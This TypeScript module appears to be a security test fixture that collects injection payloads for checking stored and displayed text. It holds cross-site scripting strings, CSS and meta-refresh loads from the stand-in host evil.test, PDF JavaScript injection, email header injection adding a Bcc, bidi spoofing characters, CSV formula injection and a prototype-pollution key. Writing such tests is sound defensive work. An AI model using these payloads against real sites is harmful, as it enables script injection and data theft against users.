import { hostileOf } from '../expand';

/** What would call back, or reach for another host, wherever a text is taken for more than a text. */
const OWN = [
  "<img src=x onerror=__xss('image')>",
  "javascript:__xss('link')",
  "\tjavascript:__xss('link behind a tab')",
  'data:text/html,<script>__xss(1)</script>',
  "${__xss('template')}`${__xss('template')}`",
  "';__xss('quote');'\");__xss('quotes');(\"",
  "</script><script>__xss('script')</script>",
  '</style><style>*{background:url(//evil.test/style)}</style>',
  '@import url(https://evil.test/import.css);',
  "<svg><animate onbegin=__xss('drawing') attributeName=x dur=1s></svg>",
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<link rel=stylesheet href=https://evil.test/sheet.css>',
  "<math><mtext><table><mglyph><style><img src=x onerror=__xss('math')>",
  ")>>/OpenAction<</S/JavaScript/JS(__xss('paper'))>>/Next(",
  ')/URI(https://evil.test/)/S/URI(',
  'a\r\nBcc: evil@evil.test\r\nContent-Type: text/html\r\n\r\n<script>__xss(2)</script>',
  '=?utf-8?q?=0D=0ABcc:_evil@evil.test?=',
  '\u202eevil.test\u202c \u2066<b>\u2069',
  '"x","=1+1"\r\n=1+1;=1+1',
  '-2+3',
  '+971 50 \t=1+1',
  '\r=1+1',
  '__proto__',
];

const LONGEST = 300;
/** What no field takes: controls but tabs and newlines, and half signs. */
const UNKEEPABLE = /(?![\t\n\r])\p{Cc}|\p{Cs}/u;

/** Every text that is stored and shown, those of the corpus and ours. */
export const PAYLOADS: readonly string[] = [
  ...hostileOf('xss', 'url', 'csv', 'text', 'redirect', 'mail', 'notif').flatMap(({ value }) =>
    typeof value === 'string' && value.length <= LONGEST && !UNKEEPABLE.test(value) ? [value] : [],
  ),
  ...OWN,
];

/** The mark by which a text is known again wherever it is shown. */
export const markOf = (number: number): string => `zq${String(number)}z`;

/** Every mark in a text. */
export const marksIn = (text: string): string[] => text.match(/zq\d+z/g) ?? [];

/** Breaks out of whatever a text may stand in, and tells which field it was. */
export const breakOut = (mark: string): string =>
  ` ${mark}"'></textarea></title></style></script><img src=//evil.test/${mark} onerror="__xss('${mark}')">`;

/** The same for where there is little room. */
export const shortBreakOut = (mark: string): string => `<svg onload=__xss()>${mark}`;
